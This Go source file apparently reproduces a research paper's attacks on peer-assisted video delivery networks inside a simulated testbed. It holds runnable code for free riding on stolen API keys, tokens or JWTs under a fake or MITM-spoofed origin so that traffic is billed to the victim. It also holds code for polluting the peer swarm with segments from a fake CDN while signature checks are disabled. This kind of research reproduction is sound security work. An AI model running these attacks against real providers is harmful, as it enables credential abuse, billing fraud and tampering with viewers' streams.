// Package attack implements the paper's attacks as runnable
// orchestrations against a deployed testbed:
//
//   - service free riding (§IV-B): joining a PDN with a stolen
//     credential from an unauthorized origin (cross-domain), or from a
//     spoofed origin via a signaling MITM (domain-spoofing), and
//     generating billable P2P traffic on the victim customer's account;
//   - video segment pollution (§IV-C): a fake CDN + malicious peer
//     collusion that feeds polluted-but-consistent segments into the
//     swarm, plus the naive direct-pollution variant that the SDK's
//     slow-start consistency check defeats.
//
// Nothing here requires knowledge of the PDN's internals beyond what a
// subscriber-level attacker has: the SDK join parameters (visible in
// any customer page) and control over the attacker's own peer and its
// network path — exactly the paper's threat model. So every attack
// takes what a viewer holds, a pdnclient.Config with its credential in
// whichever style the provider uses (API key, session token or JWT), and
// changes only what the attacker controls.
package attack

import (
	"context"
	"errors"
	"fmt"
	"net/netip"

	"github.com/stealthy-peers/pdnsec/internal/media"
	"github.com/stealthy-peers/pdnsec/internal/mitm"
	"github.com/stealthy-peers/pdnsec/internal/netsim"
	"github.com/stealthy-peers/pdnsec/internal/pdnclient"
	"github.com/stealthy-peers/pdnsec/internal/signal"
)

// freeRide is the free rider's join: the stolen credential, whatever
// its style, presented from the attacker's own origin for the
// attacker's own stream. A token claims the attacker's own video URL —
// the binding check is exactly what tells the profiles apart.
func freeRide(stolen pdnclient.Config) signal.JoinRequest {
	req := signal.JoinRequest{
		APIKey:    stolen.APIKey,
		Origin:    "https://freerider.evil",
		Token:     stolen.Token,
		Video:     "attacker-stream",
		Rendition: "360p",
	}
	if req.Token != "" {
		req.VideoURL = "http://cdn.freerider.evil/v/attacker-stream/master.m3u8"
	}
	return req
}

// CrossDomain runs the cross-domain free-riding test from stolen.Host:
// join stolen's first signaling server with the credential it carries — an API
// key, a session token or a JWT — under the attacker's own origin, for
// the attacker's own stream. Success means the credential constrains
// neither. A config with no credential probes for unauthenticated
// joins.
func CrossDomain(ctx context.Context, stolen pdnclient.Config) (bool, error) {
	server, err := firstServer(stolen)
	if err != nil {
		return false, err
	}
	return join(ctx, stolen.Host, server, freeRide(stolen))
}

// DomainSpoof runs the domain-spoofing test: the CrossDomain join flows
// through a MITM proxy on proxyHost (a host the attacker controls) that
// rewrites Origin/Referer to the victim domain.
func DomainSpoof(ctx context.Context, stolen pdnclient.Config, proxyHost *netsim.Host, victimDomain string) (bool, error) {
	server, err := firstServer(stolen)
	if err != nil {
		return false, err
	}
	proxy := mitm.NewSignalProxy(proxyHost, server, mitm.SpoofOrigin(victimDomain))
	if err := proxy.Serve(ctx, 8443); err != nil {
		return false, err
	}
	defer proxy.Close()
	return join(ctx, stolen.Host, netip.AddrPortFrom(proxyHost.VisibleAddr(), 8443), freeRide(stolen))
}

// firstServer is the signaling server a credential test joins: the first
// of the seed list the stolen config shipped with.
func firstServer(stolen pdnclient.Config) (netip.AddrPort, error) {
	if len(stolen.SignalAddrs) == 0 {
		return netip.AddrPort{}, errors.New("attack: config has no signaling address")
	}
	return stolen.SignalAddrs[0], nil
}

// join attempts a signaling join and reports whether the server
// accepted it; only transport failures are errors.
func join(ctx context.Context, host *netsim.Host, server netip.AddrPort, req signal.JoinRequest) (bool, error) {
	c, err := signal.Dial(ctx, host, server)
	if err != nil {
		return false, err
	}
	defer c.Close()
	if _, err := c.Join(ctx, req); err != nil {
		if _, isServer := err.(*signal.ServerError); isServer {
			return false, nil
		}
		return false, err
	}
	return true, nil
}

// TrafficResult reports what the free riders moved.
type TrafficResult struct {
	SeederStats  pdnclient.Stats
	LeechStats   []pdnclient.Stats
	P2PBytes     int64 // total P2P bytes generated (billed to the victim)
	P2PSegments  int
	CDNSegments  int
	JoinAccepted bool
}

// GenerateTraffic free-rides the PDN: one attacker peer per host plays
// peer's stream — the attacker's own video on the attacker's CDN —
// under the credential and origin peer carries, generating P2P traffic
// that the provider meters against the credential's owner. The first
// host seeds peer.MaxSegments segments from the CDN and lingers; the
// rest leech over P2P. The peer on hosts[i] runs with seed peer.Seed+i.
func GenerateTraffic(ctx context.Context, peer pdnclient.Config, hosts []*netsim.Host) (TrafficResult, error) {
	var res TrafficResult
	if len(hosts) < 2 {
		return res, fmt.Errorf("attack: need at least 2 hosts, got %d", len(hosts))
	}
	mk := func(i int) pdnclient.Config {
		cfg := peer
		cfg.Host = hosts[i]
		cfg.Seed = peer.Seed + int64(i)
		return cfg
	}

	seeder, stopSeeder, err := pdnclient.Seed(ctx, mk(0))
	if err != nil {
		return res, err
	}
	defer stopSeeder()
	res.JoinAccepted = seeder.ID() != ""

	for i := 1; i < len(hosts); i++ {
		leech, err := pdnclient.New(mk(i))
		if err != nil {
			return res, err
		}
		st, err := leech.Run(ctx)
		if err != nil {
			return res, err
		}
		res.LeechStats = append(res.LeechStats, st)
		res.P2PBytes += st.P2PDownBytes
		res.P2PSegments += st.FromP2P
		res.CDNSegments += st.FromCDN
	}
	res.SeederStats = stopSeeder()
	res.P2PBytes += res.SeederStats.P2PUpBytes
	return res, nil
}

// Pollution is a launched pollution attack.
type Pollution struct {
	FakeCDN   *mitm.FakeCDN
	Malicious *pdnclient.Peer

	stop func() pdnclient.Stats
}

// LaunchPollution stands up the fake CDN on fakeCDNHost, shadowing
// malicious.CDNBase with pollute's substitutions, and seeds the
// malicious peer: an ordinary viewer config whose CDN is the fake one.
// It plays the stream *through the fake CDN*, caching polluted segments
// it then serves to any victim that asks — it needs no knowledge of the
// PDN protocol at all. LaunchPollution returns once it has played
// malicious.MaxSegments segments, which must be set. Only CDNBase and
// the linger are the attack's; the rest of malicious is the caller's,
// including InsecureNoVerify, which an attacker sets against providers
// that sign manifests (an unmodified SDK would reject the fake CDN's
// bytes before caching them) and to file no IM reports that would get
// it blacklisted.
func LaunchPollution(ctx context.Context, malicious pdnclient.Config, fakeCDNHost *netsim.Host, pollute mitm.PolluteFunc) (*Pollution, error) {
	fake := mitm.NewFakeCDN(fakeCDNHost, malicious.CDNBase, pollute)
	fake.Instrument(malicious.Obs, malicious.Tracer)
	if err := fake.Serve(fakeCDNHost, 80); err != nil {
		return nil, err
	}
	malicious.CDNBase = "http://" + fakeCDNHost.VisibleAddr().String() + ":80"
	mal, stop, err := pdnclient.Seed(ctx, malicious)
	if err != nil {
		fake.Close()
		return nil, fmt.Errorf("attack: malicious peer: %w", err)
	}
	return &Pollution{FakeCDN: fake, Malicious: mal, stop: stop}, nil
}

// Close tears the attack down and returns the malicious peer's stats.
func (a *Pollution) Close() pdnclient.Stats {
	st := a.stop()
	a.FakeCDN.Close()
	return st
}

// VictimObservation is what a victim peer experienced during an attack.
type VictimObservation struct {
	Stats            pdnclient.Stats
	PollutedSegments []media.SegmentKey
	PlayedSegments   int
	P2PSegments      int
}

// String summarises the observation, e.g. "victim played 2 polluted /
// 4 P2P / 6 total segments".
func (o VictimObservation) String() string {
	return fmt.Sprintf("victim played %d polluted / %d P2P / %d total segments",
		len(o.PollutedSegments), o.P2PSegments, o.PlayedSegments)
}

// RunVictim plays the stream as the honest viewer victim configures
// and records which played segments fail ground-truth verification
// against video — the reproduction's automated stand-in for the paper's
// manual screen-recording check. It installs its own OnSegment.
func RunVictim(ctx context.Context, victim pdnclient.Config, video *media.Video) (VictimObservation, error) {
	var obs VictimObservation
	victim.OnSegment = func(key media.SegmentKey, data []byte, source string) {
		obs.PlayedSegments++
		if source == pdnclient.SourceP2P {
			obs.P2PSegments++
		}
		if !video.Verify(key.Rendition, key.Index, data) {
			obs.PollutedSegments = append(obs.PollutedSegments, key)
		}
	}
	peer, err := pdnclient.New(victim)
	if err != nil {
		return obs, err
	}
	st, err := peer.Run(ctx)
	obs.Stats = st
	return obs, err
}
